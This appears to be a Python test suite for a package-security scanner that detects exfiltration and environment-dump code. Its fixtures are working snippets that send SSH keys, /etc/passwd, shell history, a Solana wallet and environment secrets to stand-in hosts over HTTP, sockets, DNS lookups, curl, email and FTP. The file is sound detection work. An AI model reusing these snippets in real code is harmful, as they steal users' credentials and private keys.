"""Exfiltration through objects we cannot name (a connection, a socket, a session) and of sensitive files."""

from pypi_platform_tests.lib.scans.python_scan import below_medium, found


def _lines(source: str) -> list[int]:
    return [line for rule, line in found(source) if rule == "exfiltration.host-data"]


def test_exfiltration_host_data_through_connections_and_sockets():
    source = """
    import getpass, http.client, socket
    facts = {'user': getpass.getuser(), 'node': socket.gethostname()}
    conn = http.client.HTTPSConnection('collector.example')
    conn.request('POST', '/v1/ping', body=str(facts))
    host = socket.gethostname()
    probe = socket.socket()
    probe.sendall(b'GET /i?h=' + host.encode() + b' HTTP/1.0')
    """
    assert _lines(source) == [5, 8]


def test_exfiltration_host_data_sensitive_files_uploaded():
    source = """
    import os, requests
    UPLOAD = 'https://files.example/up'
    requests.post(UPLOAD, files={'k': open(os.path.expanduser('~/.ssh/id_rsa'), 'rb')})
    requests.post(UPLOAD + '/p', data=open('/etc/passwd').read())
    history = open(os.path.expanduser('~/.bash_history')).read()
    requests.put(UPLOAD + '/h', data=history)
    """
    assert _lines(source) == [4, 5, 7]


def test_uploading_a_project_file_or_sending_a_payload_through_a_session_stays_quiet():
    source = """
    import requests
    session = requests.Session()
    session.post(url, json={'query': query})
    requests.post(url, files={'dist': open('dist/pkg-1.0.tar.gz', 'rb')})
    sock.sendall(message.encode())
    """
    assert _lines(source) == [] and below_medium(source)


def test_exfiltration_dns_through_lookup_commands_and_resolver_objects():
    source = """
    import os, platform, subprocess
    import dns.resolver
    resolver = dns.resolver.Resolver()
    secret = open('token').read().encode().hex()
    resolver.resolve(f'{secret[:60]}.k.zone.example', 'TXT')
    subprocess.run(['nslookup', f"{os.environ.get('USER', 'u')}.{platform.node()}.zone.example"])
    os.system('dig +short $(whoami).$(hostname).zone.example')
    """
    assert [line for rule, line in found(source) if rule == "exfiltration.dns"] == [6, 7, 8]


def test_looking_up_a_fixed_name_with_a_command_is_quiet():
    source = """
    import subprocess
    subprocess.run(['nslookup', 'api.example.org'])
    resolver.resolve('example.org', 'MX')
    """
    assert "exfiltration.dns" not in {rule for rule, _ in found(source)}


def test_exfiltration_host_data_files_uploaded_with_curl_and_wallets_sent():
    source = """
    import os, requests, subprocess
    subprocess.run(['curl', '-s', '-F', 'f=@/tmp/s.png', 'https://img.example/up'])
    solana = open(os.path.expanduser('~/.config/solana/id.json')).read()
    requests.post('https://w.example/m', json={'sol': solana})
    """
    assert _lines(source) == [3, 5]


def test_exfiltration_host_data_in_the_address_of_a_request():
    source = """
    import getpass, os, requests, socket, urllib.request
    requests.get(f'https://stats.example/i?u={getpass.getuser()}')
    urllib.request.urlopen('https://stats.example/install?h=' + socket.gethostname())
    conn.request('GET', '/install?u=' + os.environ['USER'])
    session = requests.Session()
    session.get('https://stats.example/i?n=' + os.uname().nodename)
    """
    assert _lines(source) == [3, 4, 5, 7]


def test_a_dict_get_with_the_working_directory_or_the_machine_architecture_is_quiet():
    source = """
    import os, platform, requests
    root = Path(config.get('directory', os.getcwd())).resolve()
    abi = mach_map.get(os.uname()[4] + '-64', 'libc6')
    channel.send(dict(cwd=os.getcwd(), pid=os.getpid()))
    requests.get(f'https://downloads.example/tool-{platform.uname().machine}-{os.uname().sysname}.tar.gz')
    """
    assert _lines(source) == []


def test_an_address_built_from_configuration_is_quiet():
    source = """
    import requests
    requests.get(f'{BASE_URL}/v1/items/{item_id}')
    requests.get('https://api.example.org/search?q=' + query)
    """
    assert _lines(source) == [] and below_medium(source)


def test_credentials_environment_dump_filtered_joined_or_read_from_env():
    source = """
    import os, requests, subprocess
    found = {k: v for k, v in os.environ.items() if 'KEY' in k}
    requests.post('https://cfg.example/env', data=found)
    dump = '\\n'.join(f'{key}={value}' for key, value in os.environ.items())
    sock.sendall(dump.encode())
    env_text = subprocess.check_output(['env'])
    requests.put('https://cfg.example/raw', data=env_text)
    """
    lines = [line for rule, line in found(source) if rule == "credentials.environment-dump"]
    assert lines == [3, 4, 5, 6, 7, 8]  # each send, and the statement that gathered what it sends


def test_exfiltration_host_data_keys_attached_to_mail_or_uploaded_by_ftp():
    source = """
    import ftplib, smtplib
    from email.message import EmailMessage
    from pathlib import Path
    message = EmailMessage()
    key = Path.home() / '.ssh' / 'id_ed25519'
    message.add_attachment(key.read_bytes(), maintype='application', subtype='octet-stream')
    with ftplib.FTP('files.example') as ftp:
        ftp.storbinary('STOR k', open(Path.home() / '.ssh' / 'id_rsa', 'rb'))
    """
    assert _lines(source) == [7, 9]


def test_attaching_a_report_is_quiet():
    source = """
    from email.message import EmailMessage
    message = EmailMessage()
    message.add_attachment(open('report.pdf', 'rb').read(), maintype='application', subtype='pdf')
    """
    assert _lines(source) == [] and below_medium(source)
